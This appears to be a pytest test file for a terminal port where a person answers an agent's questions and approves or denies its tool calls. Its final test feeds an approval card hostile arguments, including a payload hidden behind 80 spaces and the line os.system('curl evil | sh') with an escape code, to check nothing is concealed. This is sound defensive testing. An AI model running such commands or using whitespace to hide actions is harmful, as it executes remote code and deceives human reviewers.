"""The terminal port, driven for real: `tether call` on a pseudo-terminal, a person typing."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

import tether
from tether.approval import render_args
from tether.person import approval_card
from tether_ask.terminal import WRAP_COLUMNS, render_card

DB_QUESTION = {
    "question": "Which database?",
    "context": "Migrations differ per database.",
    "options": [{"label": "postgres", "description": "production"}, {"label": "sqlite"}],
}
TOPPINGS = {
    "question": "Which toppings?",
    "options": [{"label": "cheese"}, {"label": "ham"}, {"label": "olives"}],
    "multi_select": True,
}


def test_single_choice(terminal_call: Any) -> None:
    call = terminal_call("ask_user", DB_QUESTION)
    call.expect("question 1")
    call.expect("Which database?")
    call.expect("(Migrations differ per database.)")
    call.expect("1. postgres — production")
    call.expect("2. sqlite")
    call.expect("Reply: type a number (1-2), 0 skips")
    call.answer("2")
    result, status = call.result()
    assert status == 0
    assert result["meta"]["outcome"] == "answered"
    assert result["meta"]["choices"] == ["sqlite"]
    assert result["content"][0]["text"] == 'outcome: answered\nchoices: ["sqlite"]'


def test_multi_select(terminal_call: Any) -> None:
    call = terminal_call("ask_user", TOPPINGS)
    call.expect("type the numbers of your choices (1-3, separated by spaces)")
    call.answer("3, 1")
    result, status = call.result()
    assert status == 0
    assert result["meta"]["choices"] == ["olives", "cheese"]


def test_free_text(terminal_call: Any) -> None:
    call = terminal_call(
        "ask_user",
        {"question": "Which branch?", "options": [{"label": "main"}], "allow_free_text": True},
    )
    call.expect("or type your own answer")
    call.answer("feature/login page")
    result, _ = call.result()
    assert result["meta"]["outcome"] == "answered"
    assert result["meta"]["text"] == "feature/login page"
    assert result["meta"]["choices"] == []


def test_skip(terminal_call: Any) -> None:
    call = terminal_call("ask_user", DB_QUESTION)
    call.answer("0")
    result, status = call.result()
    assert status == 0
    assert result["is_error"] is False
    assert result["meta"]["outcome"] == "skipped"
    assert "Proceed on a stated assumption" in result["content"][0]["text"]


def test_an_invalid_reply_is_explained_and_asked_again(terminal_call: Any) -> None:
    call = terminal_call("ask_user", DB_QUESTION)
    call.answer("9")
    call.expect("9 is not an option: choose 1-2, or 0 to skip")
    call.answer("1 2")
    call.expect("2 numbers given but this card takes one")
    call.answer("mysql")
    call.expect("'mysql' is not a number: this card takes no free text")
    call.answer("")
    call.expect("empty reply")
    call.answer("1")
    result, status = call.result()
    assert status == 0
    assert result["meta"]["choices"] == ["postgres"]


def test_timeout_on_the_terminal(terminal_call: Any) -> None:
    call = terminal_call("ask_user", DB_QUESTION, config="[ask.port_timeout_s]\nterminal = 0.5\n")
    call.expect("[waits 0.5 s]")
    call.expect("question 1 closed without an answer")
    result, status = call.result()
    assert status == 1
    assert result["meta"]["outcome"] == "timed_out"


def test_end_of_input_on_the_terminal_is_no_person(terminal_call: Any) -> None:
    call = terminal_call("ask_user", DB_QUESTION)
    call.expect("> ")
    call.child.sendeof()
    result, status = call.result()
    assert status == 1
    assert result["meta"]["outcome"] == "no_person"
    assert "the terminal closed" in result["content"][0]["text"]


def test_approval_card_on_the_terminal(terminal_call: Any, tmp_path: Path) -> None:
    args = {"path": "a.txt", "text": "hello"}
    call = terminal_call("echo_write", args)
    call.expect("approval 1")
    call.expect("May I run echo_write (write tier)?")
    call.expect("arguments, whole:")
    call.expect('    path: "a.txt"')
    call.expect('    text: "hello"')
    call.expect("1. allow — run this call once")
    call.expect("2. deny — do not run it")
    call.expect("3. allow for this run")
    call.answer("1")
    result, status = call.result()
    assert status == 0, result
    assert (tmp_path / "a.txt").read_text() == "hello"

    call = terminal_call("echo_write", {"path": "a.txt", "text": "changed"})
    call.answer("2")
    result, status = call.result()
    assert status == 1
    assert "the person denied this call" in result["content"][0]["text"]
    assert (tmp_path / "a.txt").read_text() == "hello"


def test_without_a_terminal_no_person_is_attached(plain_call: Any, tmp_path: Path) -> None:
    start = time.monotonic()
    asked = plain_call("ask_user", DB_QUESTION)
    written = plain_call("echo_write", {"path": "a.txt", "text": "x"})
    # two whole CLI runs (interpreter start, plugin loading): nothing waited on a person
    assert time.monotonic() - start < 15
    result = json.loads(asked.stdout)
    assert asked.returncode == 1
    assert result["meta"]["outcome"] == "no_person"
    assert "stdin is not a terminal" in result["content"][0]["text"]
    assert "question 1" not in asked.stderr
    assert written.returncode == 1
    assert "no person attached" in json.loads(written.stdout)["content"][0]["text"]
    assert not (tmp_path / "a.txt").exists()


@pytest.mark.anyio
async def test_concurrent_questions_on_one_terminal_are_shown_one_at_a_time(
    open_test_run: Any,
) -> None:
    """Two calls asking at once: card 2 appears only after card 1 is answered, and each answer
    reaches its own call."""
    import os
    import pty
    import select

    import anyio

    import tether
    import tether_ask.hooks
    from tether.cli.session import Terminal

    leader, follower = pty.openpty()
    stdin = os.fdopen(follower, "r", closefd=False)
    stdout = os.fdopen(follower, "w", closefd=False)
    screen = ""

    async def read_until(text: str) -> None:
        nonlocal screen
        with anyio.fail_after(10):
            while text not in screen:
                await anyio.wait_readable(leader)
                screen += os.read(leader, 4096).decode()

    class Cli:
        @tether.hookimpl
        def tether_resources(self, run: tether.Run) -> dict[str, Any]:
            return {"terminal": Terminal(interactive=True, stdin=stdin, stdout=stdout)}

    results: dict[str, Any] = {}
    try:
        async with open_test_run(plugins=[Cli(), tether_ask.hooks], entry_points=False) as run:

            async def ask(name: str, args: dict[str, Any]) -> None:
                results[name] = await run.call("ask_user", args)

            async with anyio.create_task_group() as tg:
                tg.start_soon(ask, "db", DB_QUESTION)
                await read_until("question 1")
                tg.start_soon(ask, "toppings", TOPPINGS)
                await read_until("> ")
                # State, not a pause: the second call has reached the port and waits for card 1.
                lock = run.resources["question_port"]._one_card_at_a_time
                with anyio.fail_after(10):
                    while lock.statistics().tasks_waiting != 1:
                        await anyio.sleep(0.01)
                while select.select([leader], [], [], 0)[0]:
                    screen += os.read(leader, 4096).decode()
                assert "question 2" not in screen
                os.write(leader, b"1\n")
                await read_until("question 2")
                assert "Which toppings?" in screen.split("question 2", 1)[1]
                await read_until("separated by spaces")
                os.write(leader, b"2 3\n")
    finally:
        os.close(leader)
        os.close(follower)
    assert results["db"].meta["choices"] == ["postgres"]
    assert results["toppings"].meta["choices"] == ["ham", "olives"]


@pytest.mark.anyio
async def test_a_terminal_without_a_person_fails_closed_within_a_second(
    open_test_run: Any,
) -> None:
    import io

    import tether
    import tether_ask.hooks
    from tether.cli.session import Terminal

    screen = io.StringIO()

    class Cli:
        @tether.hookimpl
        def tether_resources(self, run: tether.Run) -> dict[str, Any]:
            return {"terminal": Terminal(interactive=False, stdin=io.StringIO(), stdout=screen)}

    async with open_test_run(plugins=[Cli(), tether_ask.hooks], entry_points=False) as run:
        start = time.monotonic()
        result = await run.call("ask_user", DB_QUESTION)
        assert time.monotonic() - start < 1
    assert result.meta["outcome"] == "no_person"
    assert "stdin is not a terminal" in result.text_content
    assert screen.getvalue() == ""


def test_an_approval_card_shows_every_argument_whole_and_visible() -> None:
    """A payload behind 80 spaces, a cell's code of many lines, a value longer than the terminal:
    all of it is on the card, wrapped, never cut (issue 11, item 2)."""
    hidden = "echo harmless" + " " * 80 + "; touch PAYLOAD"
    code = "import os\n" + "x = 1\n" * 50 + "os.system('curl evil | sh')\x1b[2K"
    long_value = "y" * 450 + "END"
    request = tether.ApprovalRequest(
        tool="echo_exec",
        tier=tether.Tier.EXEC,
        args_summary=render_args({"argv": ["sh", "-c", hidden], "code": code, "blob": long_value}),
        call_id="c1",
        args={"argv": ["sh", "-c", hidden], "code": code, "blob": long_value},
    )
    shown = render_card(approval_card(request, 600), "1")
    assert '"echo harmless⟨80 spaces⟩; touch PAYLOAD"' in shown
    assert "os.system('curl evil | sh')\\x1b[2K" in shown
    assert shown.count("│ x = 1") == 50
    rows = shown.splitlines()
    assert all(len(row) <= WRAP_COLUMNS for row in rows if row.startswith("    "))
    joined = "".join(row.strip().removeprefix("↪ ") for row in rows)
    assert f'blob: "{long_value}"' in joined
    assert "END" in shown
